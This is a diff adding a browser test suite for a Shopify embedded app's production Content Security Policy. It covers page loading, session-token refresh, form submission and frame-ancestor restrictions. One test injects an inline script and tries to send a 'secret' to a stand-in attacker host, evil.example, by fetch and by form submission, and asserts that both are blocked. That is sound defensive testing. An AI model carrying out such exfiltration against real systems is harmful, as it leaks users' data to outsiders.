@@ -1,0 +1,102 @@
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import type { Frame } from "playwright-core";
+import { expectComplaint } from "../complaints.ts";
+import { findBrowser } from "./browser.ts";
+import { startJobStage, STORE } from "./job-stage.ts";
+import type { JobStage } from "./job-stage.ts";
+
+/**
+ * The policy for scripts as it is in production, in a real browser: App Bridge comes from Shopify's own address, at which the sandbox's
+ * stands here. A page's complaint about the policy fails the test, as any other does.
+ */
+
+const executable = findBrowser();
+const CDN = "https://cdn.shopify.com";
+
+describe.skipIf(!executable)("under the policy of production", () => {
+  let stage: JobStage;
+  const fromCdn: string[] = [];
+
+  beforeAll(async () => {
+    stage = await startJobStage(executable!, { appEnv: { APP_BRIDGE_URL: "" } });
+    const appBridge = await (await fetch(`${stage.sandbox.adminUrl}/app-bridge.js`)).text();
+    await stage.tab.context.route(`${CDN}/**`, async (route) => {
+      const { pathname } = new URL(route.request().url());
+      fromCdn.push(pathname);
+      const isScript = pathname.endsWith(".js");
+      await route.fulfill({ contentType: isScript ? "text/javascript" : "text/css", body: isScript ? appBridge : "" });
+    });
+  });
+  afterAll(() => stage?.close());
+
+  const shown = async (app: Frame) => {
+    await app.locator("h1").first().waitFor();
+    // App Bridge draws the title bar's navigation from here; without it nothing in the frame is signed.
+    expect(await app.evaluate(() => typeof (window as { shopify?: object }).shopify)).toBe("object");
+  };
+
+  test.each(["/app", "/app/origins", "/app/settings", "/app/review", "/app/address-book", "/app/activity"])(
+    "%s works",
+    async (path) => {
+      await shown(await stage.open(path));
+    },
+  );
+
+  test("a page leads on to the next without a new document, and its form is sent", async () => {
+    const app = await stage.open("/app/settings");
+    await app.getByLabel("Contact name").fill("Marisol Cervantes");
+    await stage.page.getByRole("button", { name: "Save", exact: true }).click();
+    await stage.page.getByRole("button", { name: "Save", exact: true }).waitFor({ state: "hidden" });
+    expect(fromCdn).toContain("/shopifycloud/app-bridge.js");
+  });
+
+  test("a frame that lost its session token gets a new one", async () => {
+    const app = await stage.open("/app/origins");
+    await app.evaluate(() => {
+      const address = new URL(location.href);
+      address.searchParams.delete("id_token");
+      location.replace(address);
+    });
+    await expect.poll(async () => (await stage.tab.app()).locator("h1").first().textContent()).toBeTruthy();
+    await shown(await stage.tab.app());
+  });
+
+  test("no script runs that is not the app's, and nothing is told to a stranger", async () => {
+    const app = await stage.open("/app");
+    await shown(app);
+    expectComplaint(/script-src/);
+    expectComplaint(/connect-src/);
+    expectComplaint(/form-action/);
+    const ran = await app.evaluate(async () => {
+      const inline = document.createElement("script");
+      inline.textContent = "window.planted = true";
+      document.body.append(inline);
+      const told = await fetch("https://evil.example/?secret=1").then(
+        () => true,
+        () => false,
+      );
+      const form = document.createElement("form");
+      form.action = "https://evil.example/";
+      document.body.append(form);
+      form.submit();
+      await new Promise((next) => requestAnimationFrame(() => requestAnimationFrame(next)));
+      return { planted: "planted" in window, told, here: location.hostname };
+    });
+    expect(ran).toEqual({ planted: false, told: false, here: new URL(stage.sandbox.appUrl).hostname });
+  });
+
+  test("nobody but the admin frames it", async () => {
+    expectComplaint(/frame-ancestors/);
+    const address = new URL("/auth/login", stage.sandbox.appUrl).href;
+    await stage.page.goto(`${stage.sandbox.adminUrl}/store/${STORE}`);
+    const framed = await stage.page.evaluate(async (src) => {
+      const frame = document.createElement("iframe");
+      const loaded = new Promise((done) => frame.addEventListener("load", done));
+      frame.src = src;
+      document.body.append(frame);
+      await loaded;
+      return frame.contentDocument?.body.textContent ?? "";
+    }, address);
+    expect(framed).not.toContain("Open Origen");
+  });
+});
